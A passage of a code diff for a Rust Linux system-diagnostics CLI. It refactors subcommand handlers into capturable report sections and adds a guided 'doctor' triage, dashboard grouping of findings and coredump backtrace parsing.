+    level: InsightLevel,
+    message: String,
 }
 
-fn why_bluetooth() -> Result<()> {
-    println!("{}", t!("bluetooth_header").to_string().bold());
-    let output = Command::new("bluetoothctl").arg("show").output();
-    match output {
-        Ok(data) if data.status.success() => {
-            let info = String::from_utf8_lossy(&data.stdout);
-            for line in info.lines() {
-                println!("{line}");
+type SectionResult = std::result::Result<Vec<InsightLine>, String>;
+
+fn stylize_insight(line: &InsightLine) -> colored::ColoredString {
+    theme::current().paint(line)
+}
+
+fn print_section(title: &str, section: SectionResult) {
+    if let Some(sections) = CAPTURED_SECTIONS.lock().unwrap().as_mut() {
+        let (lines, error) = match section {
+            Ok(lines) => (lines, None),
+            Err(message) => (Vec::new(), Some(message)),
+        };
+        sections.push(output::Section {
+            title: title.to_string(),
+            error,
+            lines,
+        });
+        return;
+    }
+    println!("\n{}", title.bold());
+    match section {
+        Ok(lines) if !lines.is_empty() => {
+            for line in lines {
+                println!("  {}", stylize_insight(&line));
             }
         }
-        _ => println!("{}", t!("bluetooth_missing").to_string().yellow()),
+        Ok(_) => println!("  {}", t!("diag_section_no_entries").to_string().dimmed()),
+        Err(message) => println!("  {}", message.dimmed()),
     }
-    Ok(())
 }
 
-fn why_fan(sys: &System, metrics: &Metrics) -> Result<()> {
-    println!("{}", t!("fan_header").to_string().bold());
-    if let Some(speed) = metrics.fan_speed_rpm {
-        println!("{} {:.0} RPM", t!("fan_speed_label"), speed);
-    } else {
-        println!("{}", t!("fan_speed_unknown"));
+fn capturing_sections() -> bool {
+    CAPTURED_SECTIONS.lock().unwrap().is_some()
+}
+
+/// Run `report` with `print_section` collecting instead of printing
+fn capture_sections(report: impl FnOnce() -> Result<()>) -> Result<Vec<output::Section>> {
+    *CAPTURED_SECTIONS.lock().unwrap() = Some(Vec::new());
+    let result = report();
+    let sections = CAPTURED_SECTIONS.lock().unwrap().take().unwrap_or_default();
+    result.map(|()| sections)
+}
+
+/// Subcommand title; left out of `--json` output
+fn print_header(title: &str) {
+    if !capturing_sections() {
+        println!("{}", title.bold());
     }
-    let mut processes: Vec<_> = sys
-        .processes()
-        .values()
-        .map(|proc| (proc.cpu_usage(), proc.name().to_string()))
-        .collect();
-    processes.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap_or(Ordering::Equal));
-    for (usage, name) in processes.into_iter().take(5) {
-        println!("• {name}: {usage:.1}% CPU");
+}
+
+/// Subcommands whose output is `print_section` blocks only, so `--json` can
+/// carry it; the others contribute their findings and metrics
+fn reports_sections(command: &Commands) -> bool {
+    match command {
+        Commands::Gpu { .. } => !prints_text_only(command),
+        Commands::Mem { bandwidth } => *bandwidth,
+        _ => matches!(
+            command,
+            Commands::Disk
+                | Commands::Battery { .. }
+                | Commands::Net { .. }
+                | Commands::Crash { .. }
+                | Commands::Coredump
+                | Commands::Fixes
+                | Commands::Historical { .. }
+                | Commands::Wifi
+                | Commands::Bluetooth
+                | Commands::Fan
+                | Commands::Hot
+                | Commands::Update
+                | Commands::Boot { .. }
+                | Commands::BootCritical
+                | Commands::Io
+                | Commands::Storage { .. }
+                | Commands::Security { .. }
+                | Commands::Rca
+                | Commands::Oom
+                | Commands::KubeNode
+                | Commands::Services
+                | Commands::Lib { .. }
+        ),
     }
-    Ok(())
 }
 
-fn why_hot(metrics: &Metrics) -> Result<()> {
-    println!("{}", t!("hot_header").to_string().bold());
-    if let Some(temp) = metrics.temperature_c {
-        println!("{} {:.1}°C", t!("hot_max_temp"), temp);
-    } else {
-        println!("{}", t!("hot_temp_unknown"));
+/// Subcommands that still print free-form text (reports, interactive
+/// prompts, actions) that no other format could carry
+fn prints_text_only(command: &Commands) -> bool {
+    match command {
+        Commands::Gpu {
+            vulkan,
+            encoder,
+            clocks,
+            save_baseline,
+            compare,
+        } => *save_baseline || !(*vulkan || *encoder || *clocks || *compare),
+        Commands::Gaming { .. }
+        | Commands::Slow
+        | Commands::Doctor { .. }
+        | Commands::CheckDeps => true,
+        _ => false,
     }
-    Ok(())
 }
 
-fn why_update() -> Result<()> {
-    println!("{}", t!("update_header").to_string().bold());
-    if let Some(count) = check_updates() {
-        println!(
-            "{}",
-            t!("update_pending").replace("{count}", &count.to_string())
-        );
-    } else {
-        println!("{}", t!("update_unknown"));
+/// Only the table format can show a text-only subcommand, and Prometheus
+/// output holds metrics and findings only, so a subcommand whose answer is
+/// its sections would print none of it: refuse both up front
+fn check_format(format: OutputFormat, command: &Commands) -> Result<()> {
+    if format != OutputFormat::Table && prints_text_only(command) {
+        return Err(anyhow!(t!("format_text_only")));
+    }
+    if format == OutputFormat::Prometheus && reports_sections(command) {
+        return Err(anyhow!(t!("format_prometheus_sections")));
     }
     Ok(())
 }
 
-fn check_updates() -> Option<u32> {
-    let patterns = [
-        ("apt", vec!["-s", "upgrade"]),
-        ("dnf", vec!["check-update"]),
-        ("pacman", vec!["-Qu"]),
-    ];
-    for (cmd, args) in patterns {
-        let output = match Command::new(cmd).args(&args).output() {
-            Ok(output) => output,
-            Err(_) => continue,
-        };
-        if !output.status.success() {
-            continue;
-        }
-        let count = String::from_utf8_lossy(&output.stdout)
-            .lines()
-            .filter(|line| !line.trim().is_empty() && !line.starts_with("Listing"))
-            .count();
-        if count > 0 {
-            return Some(count as u32);
+/// Cut `text` to at most `max` terminal columns, ending in `…` when cut.
+/// Wide (CJK, emoji) characters count as two columns.
+fn truncate(text: &str, max: usize) -> String {
+    if text.width() <= max {
+        return text.to_string();
+    }
+    let budget = max.saturating_sub(1);
+    let mut out = String::new();
+    let mut used = 0;
+    for ch in text.chars() {
+        let width = ch.width().unwrap_or(0);
+        if used + width > budget {
+            break;
         }
+        used += width;
+        out.push(ch);
     }
-    None
+    out.push('…');
+    out
 }
 
-fn why_boot() -> Result<()> {
-    println!("{}", t!("boot_header").to_string().bold());
-    let output = Command::new("systemd-analyze").arg("blame").output().ok();
-    if let Some(data) = output {
-        if data.status.success() {
-            for line in String::from_utf8_lossy(&data.stdout).lines().take(10) {
-                println!("{line}");
+/// `truncate` to exactly `width` columns, padding short text with spaces;
+/// `{:<N}` pads by chars, which misaligns wide characters
+fn fit_column(text: &str, width: usize) -> String {
+    let mut out = truncate(text, width);
+    let padding = width.saturating_sub(out.width());
+    out.extend(std::iter::repeat(' ').take(padding));
+    out
+}
+
+/// Run the handler of one subcommand once metrics and findings are ready
+fn run_command(
+    command: Commands,
+    sys: &System,
+    metrics: &Metrics,
+    findings: &[Finding],
+) -> Result<()> {
+    match command {
+        Commands::All => show_dashboard(findings, metrics),
+        Commands::Cpu => filter_show("CPU", findings),
+        Commands::Mem { bandwidth } => {
+            filter_show("RAM", findings);
+            if bandwidth {
+                why_mem_bandwidth();
+            }
+        }
+        Commands::Disk => why_disk(metrics, findings),
+        Commands::Battery { history } => {
+            if history {
+                show_battery_history()?
+            } else {
+                why_battery(sys, findings)?
             }
-            return Ok(());
         }
+        Commands::Net {
+            trace,
+            interface,
+            captive,
+        } => why_net(
+            metrics,
+            findings,
+            trace.as_deref(),
+            interface.as_deref(),
+            captive,
+        )?,
+        Commands::Crash { core } => match core {
+            Some(target) => show_core_backtrace(&target)?,
+            None => show_crashes()?,
+        },
+        Commands::Coredump => why_coredump()?,
+        Commands::Fixes => show_fixes_log(&fixes_log_path())?,
+        Commands::Historical {
+            rule_stats,
+            metric,
+            prune,
+        } => match (metric, prune) {
+            (_, Some(days)) => prune_history_command(days)?,
+            (Some(metric), None) => show_metric_history(metric)?,
+            (None, None) if rule_stats => show_rule_stats()?,
+            (None, None) => show_historical()?,
+        },
+        Commands::Wifi => why_wifi()?,
+        Commands::Bluetooth => why_bluetooth()?,
+        Commands::Fan => why_fan(sys, metrics)?,
+        Commands::Hot => why_hot(metrics)?,
+        Commands::Update => why_update()?,
+        Commands::Boot { previous } => {
+            if previous {
+                why_boot_previous()?
+            } else {
+                why_boot()?
+            }
+        }
+        Commands::BootCritical => why_boot_critical(config::config())?,
+        Commands::Gpu {
+            vulkan,
+            encoder,
+            clocks,
+            save_baseline,
+            compare,
+        } => {
+            if save_baseline {
+                save_gpu_baseline(metrics)?
+            } else if compare {
+                compare_gpu_baseline(metrics)?
+            } else if vulkan {
+                why_gpu_vulkan(metrics)?
+            } else if encoder {
+                why_gpu_encoder()?
+            } else if clocks {
+                why_gpu_clocks()?
+            } else {
+                why_gpu(metrics, config::config())?
+            }
+        }
+        Commands::Gaming { launch_options } => {
+            if launch_options {
+                println!(
+                    "{}",
+                    steam_launch_options(metrics, detect_hybrid_nvidia(), is_command_available)
+                );
+            } else {
+                why_gaming(metrics)?
+            }
+        }
+        Commands::Slow => why_slow(sys, metrics, findings, config::config())?,
+        Commands::Storage { smart_full } => {
+            if smart_full {
+                why_storage_smart_full()?
+            } else {
+                why_storage(metrics)?
+            }
+        }
+        Commands::Security { lynis_lite } => why_security(lynis_lite)?,
+        Commands::Rca => why_rca(metrics)?,
+        Commands::Oom => why_oom()?,
+        Commands::KubeNode => why_kube_node()?,
+        Commands::Io => why_io()?,
+        Commands::Services => why_services(findings)?,
+        Commands::Lib { binary } => why_lib(&binary)?,
+        Commands::CheckDeps => deps::check_deps()?,
+        // Handled before dispatch
+        Commands::Ack { .. }
+        | Commands::ConfigCheck { .. }
+        | Commands::Diff { .. }
+        | Commands::Metrics => {}
+        Commands::Doctor {
+            symptom,
+            after_update,
+        } => why_doctor(symptom, after_update, sys, metrics, findings)?,
     }
-    println!("{}", t!("boot_unknown"));
     Ok(())
 }
 
-fn why_boot_critical() -> Result<()> {
-    println!("{}", t!("boot_critical_header").to_string().bold());
-    if !is_command_available("systemd-analyze") {
-        println!("{}", t!("boot_unknown"));
-        return Ok(());
+/// Handlers `why doctor` runs for an answer, in order
+fn doctor_route(symptom: Symptom, after_update: bool) -> Vec<Commands> {
+    let mut route = match symptom {
+        Symptom::Slow => vec![Commands::Slow, Commands::Storage { smart_full: false }],
+        Symptom::Hot => vec![Commands::Hot, Commands::Fan],
+        Symptom::Crashing => vec![Commands::Crash { core: None }, Commands::Rca],
+        Symptom::Offline => vec![
+            Commands::Net {
+                trace: None,
+                interface: None,
+                captive: false,
+            },
+            Commands::Wifi,
+        ],
+    };
+    if after_update {
+        route.push(Commands::Boot { previous: true });
+        route.push(Commands::Update);
     }
+    route
+}
 
-    let blame_entries = collect_systemd_blame().unwrap_or_default();
-    let mut flagged = false;
-    let blame_header = t!("boot_critical_blame_header").to_string();
-    let blame_lines: Vec<InsightLine> = blame_entries
+/// Areas a doctor route's handlers look at
+fn route_categories(route: &[Commands]) -> Vec<FindingCategory> {
+    use FindingCategory::*;
+    let mut categories: Vec<FindingCategory> = route
         .iter()
-        .take(10)
-        .map(|entry| {
-            let level = if entry.seconds >= BOOT_SLOW_SERVICE_CRITICAL {
-                InsightLevel::Critical
-            } else if entry.seconds >= BOOT_SLOW_SERVICE_WARNING {
-                InsightLevel::Warning
-            } else {
-                InsightLevel::Info
-            };
-            if matches!(level, InsightLevel::Warning | InsightLevel::Critical) {
-                flagged = true;
-            }
-            InsightLine {
-                level,
-                message: format!("{:>8} {}", format!("{:.2}s", entry.seconds), entry.unit),
-            }
+        .flat_map(|command| match command {
+            Commands::Slow => &[Performance][..],
+            Commands::Storage { .. } => &[Storage],
+            Commands::Hot | Commands::Fan => &[Thermal],
+            Commands::Crash { .. } | Commands::Rca | Commands::Boot { .. } => &[Stability],
+            Commands::Net { .. } | Commands::Wifi => &[Network],
+            Commands::Update => &[Updates],
+            _ => &[],
         })
+        .copied()
         .collect();
-    print_section(&blame_header, Ok(blame_lines));
-    if !flagged {
-        let ok = t!("boot_critical_no_slow_services")
-            .replace("{threshold}", &format!("{:.1}", BOOT_SLOW_SERVICE_WARNING));
-        println!("  {}", ok.green());
-    }
-
-    let chain_header = t!("boot_critical_chain_header").to_string();
-    println!("\n{}", chain_header.bold());
-    let chain_output = Command::new("systemd-analyze")
-        .args(["critical-chain", "--no-pager"])
-        .output();
-    match chain_output {
-        Ok(out) if out.status.success() => {
-            for line in String::from_utf8_lossy(&out.stdout).lines().take(20) {
-                println!("{line}");
-            }
-        }
-        _ => println!(
-            "  {}",
-            t!("boot_critical_chain_missing").to_string().yellow()
-        ),
-    }
+    categories.sort();
+    categories.dedup();
+    categories
+}
 
-    Ok(())
+/// The finding the conclusion names: the most severe one in the route's areas
+fn doctor_conclusion<'a>(route: &[Commands], findings: &'a [Finding]) -> Option<&'a Finding> {
+    let categories = route_categories(route);
+    findings
+        .iter()
+        .filter(|finding| {
+            finding
+                .categories
+                .iter()
+                .any(|category| categories.contains(category))
+        })
+        .max_by_key(|finding| finding.severity_value)
 }
 
-#[derive(Debug)]
-struct BootService {
-    unit: String,
-    seconds: f32,
+fn ask_symptom() -> Result<Symptom> {
+    const SYMPTOMS: [Symptom; 4] = [
+        Symptom::Slow,
+        Symptom::Hot,
+        Symptom::Crashing,
+        Symptom::Offline,
+    ];
+    let labels = [
+        t!("doctor_symptom_slow").to_string(),
+        t!("doctor_symptom_hot").to_string(),
+        t!("doctor_symptom_crashing").to_string(),
+        t!("doctor_symptom_offline").to_string(),
+    ];
+    let choice = Select::with_theme(&ColorfulTheme::default())
+        .with_prompt(t!("doctor_symptom_prompt"))
+        .items(&labels)
+        .default(0)
+        .interact()?;
+    Ok(SYMPTOMS.get(choice).copied().unwrap_or(Symptom::Slow))
 }
 
-fn collect_systemd_blame() -> Option<Vec<BootService>> {
-    let output = Command::new("systemd-analyze")
-        .args(["blame", "--no-pager"])
-        .output()
-        .ok()?;
-    if !output.status.success() {
-        return None;
-    }
-    let mut entries = Vec::new();
-    let text = String::from_utf8_lossy(&output.stdout);
-    for line in text.lines() {
-        let trimmed = line.trim();
-        if trimmed.is_empty() {
-            continue;
-        }
-        let tokens: Vec<&str> = trimmed.split_whitespace().collect();
-        if tokens.len() < 2 {
-            continue;
-        }
-        let mut seconds = 0.0;
-        let mut consumed = 0;
-        for token in &tokens {
-            if let Some(value) = parse_systemd_duration_token(token) {
-                seconds += value;
-                consumed += 1;
-            } else {
-                break;
-            }
+/// Guided triage: answers pick the handlers, then one conclusion is printed.
+/// `--symptom` skips the questions for scripting.
+fn why_doctor(
+    symptom: Option<Symptom>,
+    after_update: bool,
+    sys: &System,
+    metrics: &Metrics,
+    findings: &[Finding],
+) -> Result<()> {
+    let (symptom, after_update) = match symptom {
+        Some(symptom) => (symptom, after_update),
+        None => {
+            let symptom = ask_symptom()?;
+            let after_update = Confirm::with_theme(&ColorfulTheme::default())
+                .with_prompt(t!("doctor_after_update_prompt"))
+                .default(false)
+                .interact()?;
+            (symptom, after_update)
         }
-        if consumed == 0 || consumed >= tokens.len() {
-            continue;
+    };
+
+    let route = doctor_route(symptom, after_update);
+    let conclusion = doctor_conclusion(&route, findings);
+    for command in route {
+        run_command(command, sys, metrics, findings)?;
+        println!();
+    }
+
+    println!("{}", t!("doctor_conclusion_header").to_string().bold());
+    match conclusion {
+        Some(top) => {
+            println!("{}", top.message.yellow());
+            println!(
+                "{}",
+                t!("doctor_conclusion_fix").replace("{solution}", &top.solution)
+            );
         }
-        let unit = tokens[consumed..].join(" ");
-        entries.push(BootService { unit, seconds });
+        None => println!("{}", t!("doctor_conclusion_clean").to_string().green()),
     }
-    entries.sort_by(|a, b| b.seconds.partial_cmp(&a.seconds).unwrap_or(Ordering::Equal));
-    Some(entries)
+    Ok(())
 }
 
-fn parse_systemd_duration_token(token: &str) -> Option<f32> {
-    if let Some(value) = token.strip_suffix("ms") {
-        return value.trim().parse::<f32>().ok().map(|ms| ms / 1_000.0);
+fn filter_show(category: &str, findings: &[Finding]) {
+    // The findings are already part of the report
+    if capturing_sections() {
+        return;
     }
-    if let Some(value) = token.strip_suffix("us") {
-        return value.trim().parse::<f32>().ok().map(|us| us / 1_000_000.0);
+    println!("{}", format!("== {category} ==").bold());
+    if findings.is_empty() {
+        println!("{}", t!("all_good").to_string().green());
+        return;
     }
-    if let Some(value) = token.strip_suffix("s") {
-        return value.trim().parse::<f32>().ok();
+    print_findings_table(findings);
+}
+
+fn show_dashboard(findings: &[Finding], metrics: &Metrics) {
+    println!("{}", t!("dashboard_header").to_string().bold().cyan());
+    let uptime = Duration::from_secs(System::uptime());
+    let net = read_total_network_received().unwrap_or(0);
+    println!(
+        "| System: {} | Uptime: {:?} | Net: {} bytes down | Disk: {:.1}% | CPU: {} | RAM: {:.1}% |",
+        whoami::distro().bold(),
+        uptime,
+        net,
+        metrics.disk_full_percent,
+        cpu_percent_label(metrics),
+        metrics.mem_usage
+    );
+    if let Some(failed) = metrics.failed_units.filter(|count| *count > 0) {
+        println!(
+            "{}",
+            t!("dashboard_failed_units")
+                .replace("{count}", &failed.to_string())
+                .replace("{cmd}", "why services")
+                .red()
+        );
     }
-    if let Some(value) = token.strip_suffix("min") {
-        return value.trim().parse::<f32>().ok().map(|min| min * 60.0);
+    println!("{}", "╰──────────────────────╯\n".cyan());
+
+    // Check for missing critical tools
+    let missing = deps::check_missing_critical_tools();
+    if !missing.is_empty() {
+        println!("{}", t!("missing_tools_header").yellow().bold());
+        for (tool, i18n_key) in missing {
+            println!("   {} — {}", tool.yellow(), t!(i18n_key).dimmed());
+        }
+        println!(
+            "   {}\n",
+            t!("missing_tools_footer")
+                .replace("{cmd}", "why check-deps")
+                .cyan()
+        );
     }
-    None
+
+    if findings.is_empty() {
+        println!("{}", t!("all_good").to_string().green().bold());
+        return;
+    }
+
+    for (header, group) in dashboard_groups(findings) {
+        println!("{}", t!(header).to_string().bold());
+        print_findings_table(&group);
+    }
+    println!("\n{}", t!("dashboard_tip"));
 }
 
-fn why_gpu(metrics: &Metrics) -> Result<()> {
-    println!("{}", t!("gpu_header").to_string().bold());
-    if let Some(gpu) = metrics.gpu.as_ref() {
-        println!("{} {}", t!("gpu_vendor_label"), gpu.vendor.to_uppercase());
-        if let Some(model) = &gpu.model {
-            println!("{} {}", t!("gpu_model_label"), model);
-        }
-        if let Some(driver) = &gpu.driver {
-            println!("{} {}", t!("gpu_driver_label"), driver);
-        }
-        if let Some(temp) = gpu.temperature {
-            println!("{} {:.1}°C", t!("gpu_temp_label"), temp);
-            if temp > 85.0 {
-                println!("{}", t!("gpu_temp_warning").to_string().red());
-            } else if temp > 75.0 {
-                println!("{}", t!("gpu_temp_high").to_string().yellow());
-            }
-        }
-        if let Some(util) = gpu.utilization {
-            println!("{} {:.0}%", t!("gpu_util_label"), util);
-            if util > 95.0 {
-                println!("{}", t!("gpu_util_warning").to_string().yellow());
-            }
-        }
-        if let Some(mem_util) = gpu.memory_utilization() {
-            println!("{} {:.0}%", t!("gpu_mem_label"), mem_util);
-            if mem_util > 90.0 {
-                println!("{}", t!("gpu_mem_warning").to_string().yellow());
-            }
-        }
-        if let Some(fan) = gpu.fan_speed_percent {
-            println!("{} {:.0}%", t!("gpu_fan_label"), fan);
-            if fan > 85.0 {
-                println!("{}", t!("gpu_fan_warning").to_string().yellow());
-            }
-        }
+/// Non-empty "Action needed" / "For your information" groups, each worst
+/// first; the group holding the most severe finding comes first so it is
+/// never buried below a screen of warnings
+fn dashboard_groups(findings: &[Finding]) -> Vec<(&'static str, Vec<Finding>)> {
+    let (actionable, informational): (Vec<&Finding>, Vec<&Finding>) =
+        findings.iter().partition(|f| f.actionable);
+    let mut groups: Vec<(&'static str, Vec<Finding>)> = [
+        ("dashboard_action_header", actionable),
+        ("dashboard_info_header", informational),
+    ]
+    .into_iter()
+    .filter(|(_, group)| !group.is_empty())
+    .map(|(header, group)| {
+        let sorted = top_findings(group, usize::MAX);
+        (header, sorted.into_iter().cloned().collect())
+    })
+    .collect();
+    let worst = |group: &[Finding]| group.first().map_or(0, |f| f.severity_value);
+    groups.sort_by_key(|(_, group)| std::cmp::Reverse(worst(group)));
+    groups
+}
 
-        // Vendor-specific tips
-        match gpu.vendor.as_str() {
-            "nvidia" => {
-                if !metrics.prime_offload_enabled {
-                    println!("{}", t!("gpu_prime_missing").to_string().yellow());
-                } else {
-                    println!("{}", t!("gpu_prime_ok").to_string().green());
-                }
-                println!("{}", t!("gpu_nvidia_tip"));
-            }
-            "amd" => {
-                println!("{}", t!("gpu_amd_tip"));
-                // Check for AMDVLK vs RADV
-                if let Ok(output) = Command::new("vulkaninfo").arg("--summary").output() {
-                    if output.status.success() {
-                        let text = String::from_utf8_lossy(&output.stdout);
-                        if text.contains("AMDVLK") {
-                            println!("{}", t!("gpu_amd_amdvlk").to_string().yellow());
-                        } else if text.contains("RADV") {
-                            println!("{}", t!("gpu_amd_radv").to_string().green());
-                        }
-                    }
-                }
-            }
-            "intel" => {
-                println!("{}", t!("gpu_intel_tip"));
-            }
-            _ => {}
-        }
-    } else {
-        println!("{}", t!("gpu_no_data").to_string().yellow());
-        println!("{}", t!("gpu_install_tools"));
+/// Auto-fixes offered after a run: the top three findings' commands that
+/// pass `is_safe_auto_fix`
+fn offered_fixes(findings: &[Finding]) -> Vec<(&Finding, &str)> {
+    top_findings(findings, 3)
+        .into_iter()
+        .filter_map(|finding| {
+            let cmd = finding.auto_fix.as_deref()?;
+            is_safe_auto_fix(cmd).then_some((finding, cmd))
+        })
+        .collect()
+}
+
+/// `--dry-run`: list the fixes instead of prompting for them
+fn show_dry_run_fixes(fixes: &[(&Finding, &str)]) {
+    if fixes.is_empty() {
+        return;
     }
-    if metrics.vulkan_loader_missing {
-        println!("{}", t!("gpu_vulkan_missing").to_string().yellow());
-    } else {
-        println!("{}", t!("gpu_vulkan_ok").to_string().green());
+    println!("\n{}", t!("dry_run_header").to_string().bold());
+    for (finding, cmd) in fixes {
+        println!("  {} — {}", cmd.cyan(), finding.message);
     }
+}
+
+/// At most `limit` findings, worst first. Lists are usually sorted already,
+/// but a display cap must never cut a critical that filtering or merging
+/// (acks, --only-changed, category filters) moved down the list.
+fn top_findings<'a>(
+    findings: impl IntoIterator<Item = &'a Finding>,
+    limit: usize,
+) -> Vec<&'a Finding> {
+    let mut top: Vec<&Finding> = findings.into_iter().collect();
+    top.sort_by_key(|f| std::cmp::Reverse(f.severity_value));
+    top.truncate(limit);
+    top
+}
+
+fn show_crashes() -> Result<()> {
+    let logs = recent_logs().ok_or_else(|| anyhow!("No logs available"))?;
+    let errors: Vec<&str> = logs
+        .lines()
+        .filter(|line| {
+            line.contains("panic") || line.contains("error") || line.contains("segfault")
+        })
+        .take(20)
+        .collect();
+    let lines = if errors.is_empty() {
+        vec![InsightLine {
+            level: InsightLevel::Good,
+            message: t!("no_recent_crashes").to_string(),
+        }]
+    } else {
+        errors
+            .into_iter()
+            .map(|line| InsightLine {
+                level: InsightLevel::Warning,
+                message: line.to_string(),
+            })
+            .collect()
+    };
+    print_section(&t!("recent_crashes_header"), Ok(lines));
     Ok(())
 }
 
-fn why_gaming(metrics: &Metrics) -> Result<()> {
-    println!("{}", t!("gaming_header").to_string().bold());
-    println!();
+const CORE_FRAME_LIMIT: usize = 8;
+const COREDUMP_LIST_LIMIT: usize = 10;
 
-    // General gaming environment checks (always run, regardless of Steam)
+/// One `coredumpctl list` row
+#[derive(Debug, PartialEq)]
+struct CoredumpEntry {
+    time: String,
+    pid: u32,
+    signal: String,
+    executable: String,
+}
 
-    // GameMode detection
-    if is_command_available("gamemoderun") {
-        println!("{}", t!("gaming_gamemode_installed").to_string().green());
-    } else {
-        println!("{}", t!("gaming_gamemode_missing").to_string().yellow());
+/// `coredumpctl list --no-legend` rows: `TIME PID UID GID SIG COREFILE EXE
+/// SIZE`. TIME spans several words, so the row is anchored on the first three
+/// consecutive numbers (PID, UID, GID).
+fn parse_coredump_list(text: &str) -> Vec<CoredumpEntry> {
+    let is_number = |token: &str| !token.is_empty() && token.chars().all(|c| c.is_ascii_digit());
+    text.lines()
+        .filter_map(|line| {
+            let tokens: Vec<&str> = line.split_whitespace().collect();
+            let pid_at = (1..tokens.len().saturating_sub(2))
+                .find(|&idx| tokens[idx..idx + 3].iter().all(|token| is_number(token)))?;
+            Some(CoredumpEntry {
+                time: tokens[..pid_at].join(" "),
+                pid: tokens[pid_at].parse().ok()?,
+                signal: tokens.get(pid_at + 3)?.to_string(),
+                executable: tokens.get(pid_at + 5)?.to_string(),
+            })
+        })
+        .collect()
+}
+
+/// The last `COREDUMP_LIST_LIMIT` dumps, most recent first
+fn coredump_entry_lines(entries: &[CoredumpEntry]) -> Vec<InsightLine> {
+    if entries.is_empty() {
+        return vec![InsightLine {
+            level: InsightLevel::Good,
+            message: t!("coredump_none").to_string(),
+        }];
     }
+    let mut lines: Vec<InsightLine> = entries
+        .iter()
+        .rev()
+        .take(COREDUMP_LIST_LIMIT)
+        .map(|entry| InsightLine {
+            level: match entry.signal.as_str() {
+                "SIGSEGV" | "SIGABRT" => InsightLevel::Critical,
+                _ => InsightLevel::Warning,
+            },
+            message: t!("coredump_line")
+                .replace("{time}", &entry.time)
+                .replace("{exe}", &entry.executable)
+                .replace("{pid}", &entry.pid.to_string())
+                .replace("{signal}", &entry.signal),
+        })
+        .collect();
+    lines.push(InsightLine {
+        level: InsightLevel::Info,
+        message: t!("coredump_backtrace_tip").to_string(),
+    });
+    lines
+}
 
-    // MangoHud detection
-    if is_command_available("mangohud") {
-        println!("{}", t!("gaming_mangohud_installed").to_string().green());
-    } else {
-        println!("{}", t!("gaming_mangohud_missing").to_string().yellow());
+/// Without coredumpctl, only the number of dumps systemd-coredump stored
+fn coredump_dir_lines() -> SectionResult {
+    let dir = Path::new(SYSTEM_COREDUMP_DIRS[0]);
+    if !dir.is_dir() {
+        return Err(t!("coredump_tools_missing").to_string());
     }
+    // core.<exe>.<uid>.<boot id>.<pid>.<time>[.zst|.lz4|.xz]
+    let usage = dump_usage(dir, |name| {
+        name.starts_with("core.") || name.ends_with(".core")
+    });
+    Ok(vec![InsightLine {
+        level: if usage.count > 0 {
+            InsightLevel::Warning
+        } else {
+            InsightLevel::Good
+        },
+        message: t!("coredump_dir_count")
+            .replace("{count}", &usage.count.to_string())
+            .replace("{path}", &dir.display().to_string()),
+    }])
+}
 
-    // Vulkan
-    if metrics.vulkan_loader_missing {
-        println!("{}", t!("gaming_vulkan_missing").to_string().yellow());
-    } else {
-        println!("{}", t!("gaming_vulkan_ok").to_string().green());
+fn why_coredump() -> Result<()> {
+    print_header(&t!("coredump_header"));
+    let header = t!("coredump_recent_header").to_string();
+    if !is_command_available("coredumpctl") {
+        print_section(&header, coredump_dir_lines());
+        return Ok(());
     }
+    // coredumpctl exits non-zero when there are no dumps at all
+    let entries = run_cmd_c_locale("coredumpctl", &["list", "--no-pager", "--no-legend"])
+        .map(|text| parse_coredump_list(&text))
+        .unwrap_or_default();
+    print_section(&header, Ok(coredump_entry_lines(&entries)));
+    Ok(())
+}
 
-    // Gamescope
-    if metrics.gamescope_running {
-        println!("{}", t!("gaming_gamescope_running").to_string().green());
+enum CoreTarget {
+    Pid(String),
+    File(PathBuf),
+}
+
+fn parse_core_target(arg: &str) -> Result<CoreTarget> {
+    if !arg.is_empty() && arg.chars().all(|c| c.is_ascii_digit()) {
+        return Ok(CoreTarget::Pid(arg.to_string()));
+    }
+    let path = PathBuf::from(arg);
+    if path.is_file() {
+        Ok(CoreTarget::File(path))
     } else {
-        println!("{}", t!("gaming_gamescope_missing").to_string().yellow());
+        Err(anyhow!(t!("crash_core_invalid").replace("{target}", arg)))
     }
+}
 
-    println!();
-
-    // GPU-specific gaming checks and warnings
-    if let Some(gpu) = metrics.gpu.as_ref() {
-        match gpu.vendor.as_str() {
-            "nvidia" => {
-                if !metrics.prime_offload_enabled {
-                    println!("{}", t!("gaming_prime_needed").to_string().yellow());
-                }
-                // Check for nvidia-settings
-                if !is_command_available("nvidia-settings") {
-                    println!(
-                        "{}",
-                        t!("gaming_nvidia_settings_missing").to_string().yellow()
-                    );
-                }
-            }
-            "amd" => {
-                println!("{}", t!("gaming_amd_tip"));
+fn show_core_backtrace(arg: &str) -> Result<()> {
+    let target = parse_core_target(arg)?;
+    print_header(&t!("crash_core_header").replace("{target}", arg));
+
+    let mut frames = Vec::new();
+    match &target {
+        CoreTarget::Pid(pid) => {
+            if !is_command_available("coredumpctl") {
+                let missing = t!("crash_core_coredumpctl_missing").to_string();
+                print_section(&t!("crash_core_metadata_header"), Err(missing));
+                return Ok(());
             }
-            "intel" => {
-                println!("{}", t!("gaming_intel_tip"));
+            let info = run_cmd_c_locale("coredumpctl", &["info", "--no-pager", pid])
+                .ok_or_else(|| anyhow!(t!("crash_core_not_found").replace("{target}", pid)))?;
+            let metadata: Vec<InsightLine> = parse_coredump_metadata(&info)
+                .into_iter()
+                .map(|(key, value)| InsightLine {
+                    level: if key == "Signal" {
+                        InsightLevel::Warning
+                    } else {
+                        InsightLevel::Info
+                    },
+                    message: format!("{key}: {value}"),
+                })
+                .collect();
+            print_section(&t!("crash_core_metadata_header"), Ok(metadata));
+
+            // systemd-coredump embeds a stack trace when built with elfutils
+            frames = parse_frame_summary(&info, CORE_FRAME_LIMIT);
+            if frames.is_empty() && is_command_available("gdb") {
+                if let Some(text) = run_cmd_c_locale(
+                    "coredumpctl",
+                    &["debug", "--debugger=gdb", "-A", "-batch -ex bt", pid],
+                ) {
+                    frames = parse_frame_summary(&text, CORE_FRAME_LIMIT);
+                }
             }
-            _ => {}
         }
-
-        // Performance warnings
-        if let Some(temp) = gpu.temperature {
-            if temp > 80.0 {
-                println!("{}", t!("gaming_gpu_hot_warning").to_string().red());
-            }
-        }
-        if let Some(util) = gpu.memory_utilization() {
-            if util > 85.0 {
-                println!("{}", t!("gaming_vram_warning").to_string().yellow());
+        CoreTarget::File(path) => {
+            let core = path.to_string_lossy();
+            let text = if is_command_available("eu-stack") {
+                run_cmd_with_timeout("eu-stack", &["--core", &core], SLOW_COMMAND_TIMEOUT)
+            } else if is_command_available("gdb") {
+                run_cmd_with_timeout(
+                    "gdb",
